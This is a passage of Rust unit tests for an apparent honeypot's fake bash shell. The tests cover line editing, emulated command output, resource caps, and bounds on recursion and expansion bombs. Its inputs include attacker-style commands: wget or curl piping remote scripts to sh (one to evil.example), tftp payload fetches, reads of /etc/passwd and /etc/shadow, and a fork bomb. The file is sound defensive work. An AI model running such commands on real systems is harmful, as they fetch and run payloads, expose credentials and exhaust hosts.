//! Unit tests of the shell session: line editing, commands, effects, caps.

use super::*;

fn shell(tty: bool) -> Shell {
    shell_with(tty, ShellLimits::default(), "root")
}

fn shell_with(tty: bool, limits: ShellLimits, user: &str) -> Shell {
    let login = Login {
        user: user.into(),
        src: "203.0.113.9".parse().unwrap(),
        now: 1_713_090_151,
    };
    Shell::new(Profile::new("web-prod-02"), &login, tty, limits)
}

fn text(b: &[u8]) -> String {
    // Bracketed paste on/off around each prompt (line_editor's tests check those bytes).
    String::from_utf8_lossy(b)
        .replace("\x1b[?2004h", "")
        .replace("\x1b[?2004l\r", "")
}

/// Runs one exec line; (stdout, stderr, exit, effects).
fn exec(line: &str) -> (String, String, u32, Vec<Effect>) {
    let mut s = shell(false);
    let r = s.exec(line.as_bytes(), 1_713_090_200);
    (text(&r.stdout), text(&r.stderr), r.exit.unwrap(), r.effects)
}

#[test]
fn scripted_first_commands() {
    let (out, err, code, eff) = exec("uname -a; cat /etc/passwd; wget http://x/y.sh");
    assert!(out.starts_with(
        "Linux web-prod-02 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\nroot:x:0:0:root:/root:/bin/bash\n"
    ), "{out}");
    assert!(err.contains("Resolving x (x)... failed"), "{err}");
    assert_eq!(code, 4);
    assert_eq!(
        eff,
        vec![
            Effect::Command("uname -a; cat /etc/passwd; wget http://x/y.sh".into()),
            Effect::Download {
                url: "http://x/y.sh".into(),
                tool: "wget".into()
            },
        ]
    );
}

#[test]
fn info_commands() {
    assert_eq!(exec("id").0, "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(exec("whoami").0, "root\n");
    assert_eq!(exec("uname -r").0, "6.1.0-18-amd64\n");
    assert_eq!(exec("uname -m").0, "x86_64\n");
    assert_eq!(exec("uname").0, "Linux\n");
    assert_eq!(
        exec("uname -snrm").0,
        "Linux web-prod-02 6.1.0-18-amd64 x86_64\n"
    );
    assert_eq!(exec("hostname").0, "web-prod-02\n");
    assert_eq!(exec("nproc").0, "2\n");
    assert_eq!(
        exec("cat /proc/cpuinfo | grep 'model name' | wc -l").0,
        "2\n"
    );
    assert!(exec("free -m").0.contains("Mem:"));
    assert!(exec("df -h").0.contains("/dev/nvme0n1p1"));
    assert!(exec("uptime").0.contains("load average"));
    // An exec request has no utmp entry: `w` shows nobody, as on a real box.
    assert!(exec("w").0.contains(" 0 user,"));
    assert!(exec("ps aux").0.contains("/usr/sbin/sshd"));
    assert!(exec("cat /etc/os-release").0.contains("bookworm"));
    assert_eq!(exec("pwd").0, "/root\n");
    assert_eq!(exec("echo hello   world").0, "hello world\n");
    assert_eq!(
        exec("echo -n a; echo -e 'b\\x41\\tc'").0,
        "ab".to_owned() + "A\tc\n"
    );
    let (_, err, code, _) = exec("frobnicate --now");
    assert_eq!(err, "bash: line 1: frobnicate: command not found\n");
    assert_eq!(code, 127);
}

#[test]
fn separators_and_status() {
    assert_eq!(exec("false && echo a || echo b").0, "b\n");
    assert_eq!(exec("true && echo a || echo b").0, "a\n");
    assert_eq!(exec("cd /nope; echo $?").0, "1\n");
    assert_eq!(exec("exit 3; echo never").2, 3);
    assert_eq!(exec("echo hi | grep -c hi").0, "1\n");
}

#[test]
fn files_in_the_overlay() {
    let mut s = shell(false);
    let r = s.exec(b"cd /tmp && echo abc > x && echo def >> x && cat x && chmod +x x && ls -l x && rm x && cat x", 1_713_090_300);
    let out = text(&r.stdout);
    assert!(
        out.starts_with("abc\ndef\n-rwxr-xr-x 1 root root 8 Apr 14 10:25 x\n"),
        "{out}"
    );
    assert_eq!(text(&r.stderr), "cat: x: No such file or directory\n");
    let (out, _, _, _) = exec("mkdir -p /tmp/a/b && cd /tmp/a/b && pwd && cd .. && ls");
    assert_eq!(out, "/tmp/a/b\nb\n");
    let (out, _, _, _) = exec("ls /");
    assert!(out.contains("etc\n") && out.contains("root\n"), "{out}");
    let (out, _, _, _) = exec("ls -la /root");
    assert!(
        out.contains(".bashrc") && out.contains(" .\n") && out.contains("total "),
        "{out}"
    );
    let (_, err, code, _) = exec("cat /etc");
    assert_eq!((err.as_str(), code), ("cat: /etc: Is a directory\n", 1));
    let (_, err, _, _) = exec("echo x > /proc/foo");
    assert_eq!(err, "bash: line 1: /proc/foo: Permission denied\n");
}

#[test]
fn downloads_are_recorded_never_fetched() {
    let (_, err, code, eff) = exec("curl -sSL -o /tmp/a http://198.51.100.7:8080/a.sh | sh");
    assert!(
        err.contains("Failed to connect to 198.51.100.7 port 8080"),
        "{err}"
    );
    assert_eq!(code, 0, "sh reading an empty pipe succeeds");
    assert!(eff.contains(&Effect::Download {
        url: "http://198.51.100.7:8080/a.sh".into(),
        tool: "curl".into()
    }));
    let (_, _, _, eff) =
        exec("cd /tmp; wget -q -O- http://evil.example/x.sh | sh; tftp -g -r bins.sh 203.0.113.1");
    let downloads: Vec<_> = eff
        .iter()
        .filter(|e| matches!(e, Effect::Download { .. }))
        .collect();
    assert_eq!(downloads.len(), 2, "{eff:?}");
    assert!(eff.contains(&Effect::Download {
        url: "tftp://203.0.113.1/bins.sh".into(),
        tool: "tftp".into()
    }));
    let (_, _, _, eff) = exec("sh -c 'wget http://203.0.113.2/a'");
    assert!(eff.contains(&Effect::Download {
        url: "http://203.0.113.2/a".into(),
        tool: "wget".into()
    }));
}

#[test]
fn interactive_line_editing() {
    let mut s = shell(true);
    let g = text(&s.greeting().stdout);
    assert!(g.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"));
    assert!(g.ends_with("root@web-prod-02:~# "), "{g}");
    assert!(!g.contains("\n\n\r") && g.contains("\r\n"));
    // Typing "whoamj", a backspace, "i", Enter (readline in the shell's C.UTF-8
    // locale rubs out with backspace and ESC[K, as bash 5.2 does with LANG=C.UTF-8).
    let r = s.input(b"whoamj\x7fi\r", 1);
    let out = text(&r.stdout);
    assert_eq!(out, "whoamj\x08\x1b[Ki\r\nroot\r\nroot@web-prod-02:~# ");
    assert_eq!(r.effects, vec![Effect::Command("whoami".into())]);
    // Arrow keys edit (up recalls "whoami"), Ctrl-C drops the line.
    let r = s.input(b"ls\x1b[A\x1b[D\x03", 2);
    assert!(text(&r.stdout).ends_with("^C\r\nroot@web-prod-02:~# "));
    assert!(r.effects.is_empty());
    // CR LF is one Enter; the prompt follows cd.
    let r = s.input(b"cd /var/log\r\n", 3);
    assert!(text(&r.stdout).ends_with("root@web-prod-02:/var/log# "));
    let r = s.input(b"\x04", 4);
    assert_eq!(text(&r.stdout), "\r\nlogout\r\n");
    assert_eq!(r.exit, Some(0));
    assert!(s.ended());
    assert!(s.input(b"id\r", 5).stdout.is_empty());
}

#[test]
fn stty_size_is_the_clients_terminal() {
    let mut s = shell(true);
    s.greeting();
    let r = s.input(b"stty size\r", 1);
    assert!(
        text(&r.stdout).contains("\r\n24 80\r\n"),
        "{:?}",
        text(&r.stdout)
    );
    // The SSH pty request and window changes (or telnet's NAWS) set it.
    s.set_size(132, 43);
    let r = s.input(b"stty size\r", 2);
    assert!(
        text(&r.stdout).contains("\r\n43 132\r\n"),
        "{:?}",
        text(&r.stdout)
    );
    // Without a terminal, stty fails as on a pipe (coreutils' message, status 1).
    let (out, err, status, _) = exec("stty size");
    assert_eq!(out, "");
    assert_eq!(
        err,
        "stty: 'standard input': Inappropriate ioctl for device\n"
    );
    assert_eq!(status, 1);
}

#[test]
fn exit_in_interactive_session() {
    let mut s = shell(true);
    let r = s.input(b"echo one; exit 2; echo two\r", 1);
    let out = text(&r.stdout);
    let (typed, shown) = out.split_once("\r\n").unwrap();
    assert_eq!(typed, "echo one; exit 2; echo two");
    assert_eq!(shown, "one\r\nlogout\r\n");
    assert_eq!(r.exit, Some(2));
}

#[test]
fn piped_shell_without_terminal() {
    let mut s = shell(false);
    assert!(s.greeting().stdout.is_empty());
    let r = s.input(b"echo a\r\nuname", 1);
    assert_eq!(text(&r.stdout), "a\n");
    let r = s.eof(2);
    assert_eq!(text(&r.stdout), "Linux\n");
    assert_eq!(r.exit, Some(0));
    assert_eq!(r.effects, vec![Effect::Command("uname".into())]);
}

#[test]
fn non_root_login() {
    let mut s = shell_with(true, ShellLimits::default(), "pi");
    let g = text(&s.greeting().stdout);
    assert!(g.ends_with("pi@web-prod-02:~$ "), "{g}");
    let r = s.input(b"id; cat /etc/shadow; pwd; tail -n 1 /etc/passwd\r", 1);
    let out = text(&r.stdout);
    assert!(out.contains("uid=1000(pi)"), "{out}");
    assert!(out.contains("cat: /etc/shadow: Permission denied"), "{out}");
    assert!(out.contains("/home/pi\r\n"), "{out}");
    assert!(
        out.contains("pi:x:1000:1000:pi,,,:/home/pi:/bin/bash"),
        "{out}"
    );
    // A weird user name becomes root.
    let s = shell_with(true, ShellLimits::default(), "Robert'); DROP");
    assert_eq!(s.st.user, "root");
}

#[test]
fn caps() {
    let limits = ShellLimits {
        max_line: 16,
        max_exec: 16,
        max_commands: 3,
        max_line_output: 64,
        max_session_output: 1 << 20,
        overlay: fs::OverlayLimits {
            max_bytes: 128,
            max_entries: 4,
        },
        budget: budget::BudgetLimits::default(),
    };
    let mut s = shell_with(false, limits, "root");
    let r = s.input(b"echo 0123456789abcdefghijklmnop\n", 1);
    assert_eq!(text(&r.stdout), "0123456789a\n");
    assert!(r.effects.iter().any(|e| matches!(
        e,
        Effect::Limit {
            limit: "shell_line",
            ..
        }
    )));
    let r = s.input(b"cat /etc/passwd\n", 2);
    assert_eq!(r.stdout.len(), 64);
    assert!(r.effects.iter().any(|e| matches!(
        e,
        Effect::Limit {
            limit: "shell_output",
            ..
        }
    )));
    let r = s.input(b"echo x > /tmp/a\n", 3);
    assert!(r.stderr.is_empty());
    let r = s.input(b"id\n", 4);
    assert!(r.effects.iter().any(|e| matches!(
        e,
        Effect::Limit {
            limit: "shell_commands",
            ..
        }
    )));
    assert_eq!(r.exit, Some(1));
    assert!(s.ended());

    let limits = ShellLimits {
        overlay: fs::OverlayLimits {
            max_bytes: 128,
            max_entries: 4,
        },
        ..ShellLimits::default()
    };
    let mut s = shell_with(false, limits, "root");
    let r = s.exec(b"echo 01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789 > /tmp/big", 1);
    assert_eq!(
        text(&r.stderr),
        "bash: line 1: /tmp/big: No space left on device\n"
    );
}

#[test]
fn arbitrary_input_never_panics() {
    use proptest::prelude::*;
    let mut runner = proptest::test_runner::TestRunner::new(proptest::test_runner::Config {
        cases: 64,
        ..Default::default()
    });
    runner
        .run(&proptest::collection::vec(any::<u8>(), 0..2000), |input| {
            for tty in [true, false] {
                let mut s = shell(tty);
                let _ = s.greeting();
                for chunk in input.chunks(37) {
                    let _ = s.input(chunk, 10);
                }
                let _ = s.eof(11);
                let mut s = shell(false);
                let _ = s.exec(&input, 12);
            }
            Ok(())
        })
        .unwrap();
    // Lines built from the command vocabulary reach deeper than random bytes.
    let words = [
        "ls",
        "-la",
        "cd",
        "..",
        "/",
        "cat",
        "echo",
        ">",
        ">>",
        "|",
        "&&",
        "||",
        ";",
        "rm",
        "-rf",
        "mkdir",
        "-p",
        "a/b",
        "chmod",
        "777",
        "'",
        "\"",
        "$HOME",
        "wget",
        "curl",
        "sh",
        "-c",
        "2>&1",
        "exit",
        "<",
        "/tmp/x",
        "~",
        "grep",
        "head",
        "-n",
        "wc",
        "sudo",
        "nohup",
        "timeout",
        "bash",
        "$X",
        "X=sudo",
        "history",
        "-",
        "/usr/bin/sudo",
    ];
    runner
        .run(&proptest::collection::vec(0..words.len(), 0..24), |idx| {
            let line: Vec<&str> = idx.iter().map(|&i| words[i]).collect();
            let mut s = shell(true);
            let _ = s.input(format!("{}\r", line.join(" ")).as_bytes(), 1);
            let mut s = shell(false);
            let _ = s.exec(line.join(" ").as_bytes(), 1);
            Ok(())
        })
        .unwrap();
}

// ---- the per-line work budget (see budget.rs) ---------------------------------------

/// The detail of the `shell_budget` limit a reply reported, if any.
fn budget_stop(effects: &[Effect]) -> Option<String> {
    effects.iter().find_map(|e| match e {
        Effect::Limit {
            limit: "shell_budget",
            detail,
        } => Some(detail.clone()),
        _ => None,
    })
}

/// Repeats `$NAME` inside `prefix … suffix` until the line is nearly the 4 KiB cap.
fn fill(prefix: &str, name: &str, suffix: &str, max: usize) -> String {
    let mut line = prefix.to_owned();
    let mut n = 0;
    while line.len() + name.len() + 1 + suffix.len() < 4000 && n < max {
        line.push('$');
        line.push_str(name);
        n += 1;
    }
    line.push_str(suffix);
    line
}

/// Runs `setup` lines, then `attack`, in one non-interactive session; returns the
/// attack's reply and the shell for what comes after.
fn attack(setup: &[String], line: &str) -> (Reply, Shell) {
    let mut s = shell(false);
    for l in setup {
        let r = s.input(format!("{l}\n").as_bytes(), 1);
        assert!(budget_stop(&r.effects).is_none(), "setup {l:?} {r:?}");
    }
    let r = s.input(format!("{line}\n").as_bytes(), 2);
    (r, s)
}

/// After a stopped line the session answers the next one normally.
fn still_answers(s: &mut Shell) {
    let r = s.input(b"echo $?; echo ok\n", 3);
    assert_eq!(text(&r.stdout), "137\nok\n");
    assert!(budget_stop(&r.effects).is_none());
    assert!(!s.ended());
}

/// The issue's example: `S` holds 204 `sudo`s; `sh -c "sudo$S$S…"` re-parses ~12,000 of
/// them. Before the budget every `sudo` was a recursive call that copied the rest of the
/// arguments (stack overflow, gigabytes copied); now each is a hop of a loop and the
/// 17th level of nesting stops the line.
#[test]
fn sudo_bomb_stops_at_the_depth_limit() {
    let set = format!("S='{}'", " sudo".repeat(204));
    // 60 expansions of 1 KiB fit the 64 KiB expansion budget: 12,240 `sudo`s.
    let bomb = fill("sh -c \"sudo", "S", " id\"", 60);
    for tty in [true, false] {
        let mut s = shell(tty);
        let _ = s.input(format!("{set}\r\n").as_bytes(), 1);
        let r = s.input(format!("{bomb}\r\n").as_bytes(), 2);
        let out = text(&r.stdout) + &text(&r.stderr);
        assert!(out.contains("Killed"), "{out}");
        assert!(!out.contains("uid=0"), "{out}");
        // The echo of the typed line (tty), the message and a prompt: nothing more.
        assert!(r.stdout.len() + r.stderr.len() < 5000, "{}", r.stdout.len());
        let detail = budget_stop(&r.effects).expect("budget reported");
        assert!(detail.contains("nesting depth budget of 16"), "{detail}");
        let r = s.input(b"echo $?; echo ok\r\n", 3);
        let out = text(&r.stdout);
        assert!(out.contains("137") && out.contains("ok"), "{out}");
        assert!(!s.ended());
    }
    // As an exec request the status is that of a killed process.
    let mut s = shell(false);
    let r = s.exec(format!("{set}\n{bomb}").as_bytes(), 1);
    assert_eq!(r.exit, Some(137));
    assert!(budget_stop(&r.effects).is_some());
}

#[test]
fn wrappers_within_the_budget_still_work() {
    let (out, _, code, eff) = exec("sudo -u root nohup nice timeout 5 time sudo /usr/bin/id -u");
    assert_eq!((out.as_str(), code), ("0\n", 0));
    assert!(budget_stop(&eff).is_none());
    // Sixteen levels are allowed, the seventeenth is not.
    let (out, _, _, eff) = exec(&format!("{}whoami", "sudo ".repeat(16)));
    assert_eq!(out, "root\n");
    assert!(budget_stop(&eff).is_none());
    let (out, err, code, eff) = exec(&format!("{}whoami; echo after", "sudo ".repeat(17)));
    assert_eq!((out.as_str(), err.as_str(), code), ("", "Killed\n", 137));
    assert!(budget_stop(&eff).is_some());
    assert_eq!(exec("sudo").1, "usage: sudo -h | -K | -k | -V\n");
    assert_eq!(exec("A=1 sudo A=2").2, 0);
}

/// A variable that runs itself through `sh -c` re-enters on every level; the depth
/// limit ends it.
#[test]
fn self_referencing_sh_c_stops_at_the_depth_limit() {
    let (r, mut s) = attack(&["S='sh -c \"$S\"; echo x'".into()], "sh -c \"$S\"");
    let detail = budget_stop(&r.effects).expect("budget reported");
    assert!(detail.contains("nesting depth"), "{detail}");
    assert_eq!(text(&r.stderr), "Killed\n");
    still_answers(&mut s);
    // Nested a few levels on purpose, it works.
    assert_eq!(
        exec("sh -c 'bash -c \"sh -c id\"'").0,
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
}

/// `sh -c` re-parses text that expansion made: `$S` holds 500 more `$X` of 1 KiB each.
/// Every parse of the line draws on one expansion budget, so the inner parse is refused
/// before it builds the 500 KiB.
#[test]
fn expansion_inside_sh_c_draws_on_one_budget() {
    let setup = [
        format!("X={}", "x".repeat(1000)),
        format!("S='{}'", "$X".repeat(500)),
    ];
    let (r, mut s) = attack(&setup, "sh -c \"echo $S\"");
    let detail = budget_stop(&r.effects).expect("budget reported");
    assert!(
        detail.contains("expansion bytes budget of 262144"),
        "{detail}"
    );
    assert!(r.stdout.is_empty(), "{}", r.stdout.len());
    still_answers(&mut s);
    // Part after part, the same budget: the third 100 KiB expansion does not fit.
    let part = fill("echo ", "X", "", 100);
    let (r, _) = attack(&setup[..1], &format!("{part}; {part}; {part}; echo never"));
    assert!(budget_stop(&r.effects).is_some());
    assert_eq!(r.stdout.len(), 2 * 100_001);
}

/// `cat` with thousands of file operands made by `sh -c`: the buffer is cut at
/// MAX_BUFFER as it is filled; through a pipeline the data budget stops the line.
#[test]
fn many_file_operands_are_bounded_while_read() {
    let setup = [format!("F='{}'", "/etc/passwd ".repeat(85))];
    let line = fill("sh -c \"cat ", "F", "\"", 60);
    let (r, mut s) = attack(&setup, &line);
    assert_eq!(r.stdout.len(), 256 * 1024);
    assert!(r.effects.iter().any(|e| matches!(
        e,
        Effect::Limit {
            limit: "shell_output",
            ..
        }
    )));
    assert!(
        budget_stop(&r.effects).is_none(),
        "the buffer cap alone cuts it"
    );
    let r = s.input(b"echo ok\n", 3);
    assert_eq!(text(&r.stdout), "ok\n");

    // wc, grep and head join their operands only up to the same cap.
    let line = fill("sh -c \"wc -c ", "F", "\"", 60);
    let (r, _) = attack(&setup, &line);
    let n: usize = text(&r.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(n <= 256 * 1024, "{n}");
    // grep counts per file (GNU's `-c` with several operands), each read under the same
    // caps and the line's data budget.
    let line = fill("sh -c \"grep -ch root ", "F", "\"", 60);
    let (r, _) = attack(&setup, &line);
    let n: usize = text(&r.stdout)
        .lines()
        .map(|l| l.trim().parse::<usize>().unwrap())
        .sum();
    assert!(n > 100 && n < 256 * 1024 / 30, "{n}");

    // Each stage of a pipeline reads and writes up to 256 KiB: the 4 MiB data budget
    // ends it around the eighth stage.
    let pipes = " | cat".repeat(12);
    let line = fill("sh -c \"cat ", "F", &format!("{pipes}\""), 60);
    let (r, mut s) = attack(&setup, &line);
    let detail = budget_stop(&r.effects).expect("budget reported");
    assert!(detail.contains("data bytes budget of 4194304"), "{detail}");
    assert!(r.stdout.is_empty());
    still_answers(&mut s);
}

/// Thousands of commands from one expanded script.
#[test]
fn commands_from_an_expanded_script_are_counted() {
    let setup = [format!("C='{}'", ":;".repeat(500))];
    let line = fill("sh -c \"", "C", " echo never\"", 60);
    let (r, mut s) = attack(&setup, &line);
    let detail = budget_stop(&r.effects).expect("budget reported");
    assert!(detail.contains("commands budget of 4096"), "{detail}");
    assert!(!text(&r.stdout).contains("never"));
    still_answers(&mut s);
}

/// `grep` with thousands of alternatives over thousands of lines: the product is
/// charged line by line as it is tested.
#[test]
fn grep_alternatives_times_lines_are_counted() {
    let setup = [
        format!("P='{}'", "zz|".repeat(330)),
        format!("F='{}'", "/etc/passwd ".repeat(85)),
    ];
    let mut line = fill("sh -c \"grep -c '", "P", "' ", 25);
    line = fill(&line, "F", "\"", 25);
    let (r, mut s) = attack(&setup, &line);
    let detail = budget_stop(&r.effects).expect("budget reported");
    assert!(detail.contains("iterations budget of 2000000"), "{detail}");
    still_answers(&mut s);
}

/// Each dimension with a tiny budget, through the whole interpreter.
#[test]
fn every_dimension_can_stop_a_line() {
    type Tweak = fn(&mut budget::BudgetLimits);
    let tiny = |f: Tweak| {
        let mut limits = ShellLimits::default();
        f(&mut limits.budget);
        shell_with(false, limits, "root")
    };
    let cases: [(Tweak, &str, &str); 6] = [
        (|b| b.max_depth = 2, "sudo sudo sudo id", "nesting depth"),
        (
            |b| b.max_commands = 5,
            "true; true; true; true; true; id",
            "commands",
        ),
        (|b| b.max_iterations = 3, "ls / / / / /", "iterations"),
        (
            |b| b.max_arg_bytes = 64,
            &format!("echo {}", "a".repeat(100)),
            "argument bytes",
        ),
        (
            |b| b.max_expansion = 8,
            "echo $HOME $HOME $HOME",
            "expansion bytes",
        ),
        (|b| b.max_data = 100, "cat /etc/passwd", "data bytes"),
    ];
    for (set, line, dim) in cases {
        let mut s = tiny(set);
        let r = s.input(format!("{line}\n").as_bytes(), 1);
        let detail = budget_stop(&r.effects).unwrap_or_else(|| panic!("{line}: {r:?}"));
        assert!(detail.contains(dim), "{line}: {detail}");
        assert!(text(&r.stderr).ends_with("Killed\n"), "{line}");
        assert!(r.stdout.len() <= 100, "{line}");
        // The next line gets a fresh budget.
        let r = s.input(b"whoami\n", 2);
        assert_eq!(text(&r.stdout), "root\n", "{line}");
    }
}

/// Thousands of `wget`s from one expanded script: 64 become events, the rest are counted
/// in one `LimitReached`; the line itself runs on.
#[test]
fn downloads_per_line_are_bounded() {
    // 1,500 wgets: each is a list part and a command, 3,000 of the 4,096 commands.
    let setup = [format!(
        "W='{}'",
        "wget -q http://203.0.113.5/x;".repeat(30)
    )];
    let line = fill("sh -c \"", "W", " echo done\"", 50);
    let (r, _) = attack(&setup, &line);
    let downloads = r
        .effects
        .iter()
        .filter(|e| matches!(e, Effect::Download { .. }))
        .count();
    assert_eq!(downloads, 64);
    let dropped = budget_stop(&r.effects).expect("reported");
    assert!(
        dropped.contains("download attempts on one line not recorded"),
        "{dropped}"
    );
    assert_eq!(text(&r.stdout), "done\n", "{}", text(&r.stderr));
}

/// Appending to a 60 KiB file copies it each time: 4,000 appends would copy 240 MiB;
/// the copies are charged as data before they are made.
#[test]
fn appending_in_a_loop_is_charged_as_data() {
    let setup = [
        format!("X={}", "x".repeat(1000)),
        fill("echo ", "X", " > /tmp/f", 60),
        format!("A='{}'", "echo >> /tmp/f;".repeat(68)),
    ];
    let line = fill("sh -c \"", "A", "\"", 60);
    let (r, mut s) = attack(&setup, &line);
    let detail = budget_stop(&r.effects).expect("budget reported");
    assert!(detail.contains("data bytes"), "{detail}");
    still_answers(&mut s);
    let r = s.input(b"wc -c /tmp/f\n", 4);
    let n: usize = text(&r.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(n > 60_000 && n < 60_200, "{n}");
}

/// History keeps at most 64 KiB (and 500 lines), dropping the oldest as bash does.
#[test]
fn history_is_bounded_in_bytes() {
    let mut s = shell(false);
    for i in 0..200 {
        let _ = s.input(format!("echo {i:04} {}\n", "h".repeat(1000)).as_bytes(), 1);
    }
    let total: usize = s.st.history.iter().map(String::len).sum();
    assert!(total <= 64 * 1024, "{total}");
    assert!(s.st.history.last().unwrap().starts_with("echo 0199"));
    let r = s.input(b"history\n", 2);
    assert!(r.stdout.len() < 70 * 1024);
    assert!(!text(&r.stdout).contains("echo 0000"));
}

#[test]
fn ctrl_l_redraws_count_against_the_session_output_cap() {
    // A client that types a full line and then Ctrl-L forever would get a line's worth of
    // output per byte sent; the redraws are charged like command output.
    let limits = ShellLimits {
        max_session_output: 64 * 1024,
        ..ShellLimits::default()
    };
    let mut s = shell_with(true, limits, "root");
    s.input(&[b'a'; 4000], 1);
    let mut sent = 0usize;
    let mut limited = false;
    for i in 0..1000 {
        let r = s.input(&[0x0c; 4], 2 + i);
        sent += r.stdout.len();
        if r.effects.iter().any(|e| {
            matches!(
                e,
                Effect::Limit {
                    limit: "shell_output",
                    ..
                }
            )
        }) {
            limited = true;
        }
        if s.ended() {
            break;
        }
    }
    assert!(limited, "the redraw flood was never stopped");
    assert!(s.ended(), "the session goes on past its output cap");
    assert!(sent <= 64 * 1024 + 4 * 4200, "{sent} bytes sent");
}

// ---- the bash grammar (parse.rs, exec.rs, expand.rs) -----------------------------------

/// Recursion and loops an intruder can write all end on the line's budget: functions
/// that call themselves, nested substitutions, endless loops, brace and glob bombs,
/// deep arithmetic. Each stops with `Killed` (137) and the session answers the next line.
#[test]
fn grammar_bombs_stop_on_the_budget() {
    let cases: [(&str, &str); 9] = [
        ("f() { f; }; f", "nesting depth"),
        (":(){ :|:& };:", "nesting depth"),
        ("while true; do :; done", "commands"),
        ("for i in {1..100000000}; do :; done", "expansion bytes"),
        (
            "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
            "expansion bytes",
        ),
        (
            "x=$(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo x)))))))))))))))))); echo $x",
            "nesting depth",
        ),
        // Expansion or argument bytes, whichever budget is the smaller.
        ("x=a; while :; do x=$x$x; done", "bytes budget"),
        ("eval 'eval \"eval \\\"f(){ f; }; f\\\"\"'", "nesting depth"),
        ("until false; do echo y; done", "commands"),
    ];
    for (line, dim) in cases {
        let mut s = shell(false);
        let r = s.input(format!("{line}\n").as_bytes(), 1);
        let detail = budget_stop(&r.effects).unwrap_or_else(|| panic!("{line}: {r:?}"));
        assert!(detail.contains(dim), "{line}: {detail}");
        assert!(
            text(&r.stderr).ends_with("Killed\n"),
            "{line}: {}",
            text(&r.stderr)
        );
        still_answers(&mut s);
    }
}

/// Text nested far deeper than a real line never reaches the recursive parser, and the
/// walk of a deep but valid line stays within a thread's stack.
#[test]
fn deep_input_is_refused_and_deep_valid_lines_run_on_a_small_stack() {
    let handle = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(|| {
            for unit in [
                "(",
                "$(",
                "{ ",
                "if ",
                "`",
                "${",
                "$((",
                "[[ ( ",
                "((",
                "case x in ",
            ] {
                let line = unit.repeat(10_000 / unit.len());
                let mut s = shell(false);
                let r = s.exec(line.as_bytes(), 1);
                assert!(r.exit.is_some(), "{unit}");
            }
            // `( (` is parsed as `((` by brush-parser: alternate subshells and groups.
            let deep = format!("{}echo deep{}", "( { ".repeat(10), "; } )".repeat(10));
            let (out, _, code, _) = exec(&deep);
            assert_eq!((out.as_str(), code), ("deep\n", 0));
            let groups = format!("{}echo g{}", "{ ".repeat(20), "; }".repeat(20));
            assert_eq!(exec(&groups).0, "g\n");
            let arith = format!("echo $(({}1{}))", "(".repeat(8), ")".repeat(8));
            assert_eq!(exec(&arith).0, "1\n");
            // Long chains that recurse in parsers: refused or bounded.
            let (_, _, code, _) = exec(&format!("[[ {}x ]]", "! ".repeat(2000)));
            assert_eq!(code, 137);
            let (_, _, code, _) = exec(&format!("{}true", "exec ".repeat(800)));
            assert_eq!(code, 0);
            let (out, _, _, _) = exec(&format!("echo $(({}1))", "- ".repeat(120)));
            assert_eq!(out, "1\n");
            let (_, _, code, _) = exec(&format!("test {}x", "x -a ".repeat(500)));
            assert_eq!(code, 2);
            let unary = format!("echo $(({}1))", "-".repeat(3000));
            let (_, err, code, _) = exec(&unary);
            assert!(err.contains("expression recursion level exceeded"), "{err}");
            assert_eq!(code, 1);
        })
        .unwrap();
    handle.join().unwrap();
}

/// An open quote, `if` or `&&` makes an interactive session prompt with `> ` and read on;
/// the whole command is one history entry and one `Command` event.
#[test]
fn continuation_lines_prompt_with_ps2() {
    let mut s = shell(true);
    let r = s.input(b"echo 'a\r", 1);
    assert!(text(&r.stdout).ends_with("\r\n> "), "{:?}", text(&r.stdout));
    assert!(r.effects.is_empty());
    let r = s.input(b"b'\r", 2);
    assert_eq!(text(&r.stdout), "b'\r\na\r\nb\r\nroot@web-prod-02:~# ");
    assert_eq!(r.effects, vec![Effect::Command("echo 'a\nb'".into())]);
    let r = s.input(b"for i in 1 2\rdo echo $i\rdone\r", 3);
    assert!(
        text(&r.stdout).ends_with("1\r\n2\r\nroot@web-prod-02:~# "),
        "{:?}",
        text(&r.stdout)
    );
    let r = s.input(b"true &&\r", 4);
    assert!(text(&r.stdout).ends_with("> "));
    let r = s.input(b"\x03", 5);
    assert!(text(&r.stdout).ends_with("^C\r\nroot@web-prod-02:~# "));
    let r = s.input(b"echo (\r", 6);
    assert!(
        text(&r.stdout).contains("-bash: syntax error near unexpected token `newline'"),
        "{:?}",
        text(&r.stdout)
    );
    // A command still open when the client goes away is recorded all the same.
    let r = s.input(b"echo 'left open\r", 7);
    assert!(r.effects.is_empty());
    let r = s.eof(8);
    assert!(
        r.effects
            .contains(&Effect::Command("echo 'left open".into())),
        "{:?}",
        r.effects
    );
    // Without a terminal, a script piped in continues the same way.
    let mut s = shell(false);
    let r = s.input(b"if true\nthen echo yes\nfi\n", 1);
    assert_eq!(text(&r.stdout), "yes\n");
}

/// `&` runs the job and says so as an interactive bash does; `kill -9 $$` ends the
/// session at once; `type` and `export -p` answer with bash's texts.
#[test]
fn jobs_kill_type_and_export() {
    let mut s = shell(true);
    let r = s.input(b"echo bg &\r", 1);
    let out = text(&r.stdout);
    assert!(out.contains("[1] "), "{out}");
    assert!(out.contains("bg\r\n"), "{out}");
    assert!(
        out.contains("[1]+  Done                    echo bg"),
        "{out}"
    );
    let r = s.input(b"type ls cd if\r", 2);
    let out = text(&r.stdout);
    assert!(
        out.contains("ls is aliased to `ls $LS_OPTIONS'\r\n"),
        "{out}"
    );
    assert!(
        out.contains("cd is a shell builtin\r\nif is a shell keyword\r\n"),
        "{out}"
    );
    let r = s.input(b"kill -9 $$\r", 3);
    assert_eq!(r.exit, Some(137));
    assert!(!text(&r.stdout).contains("logout"));
    let (out, _, _, _) = exec("export -p | head -2; type cat");
    assert_eq!(
        out,
        "declare -x HOME=\"/root\"\ndeclare -x LANG=\"C.UTF-8\"\ncat is /usr/bin/cat\n"
    );
    let (out, _, _, _) =
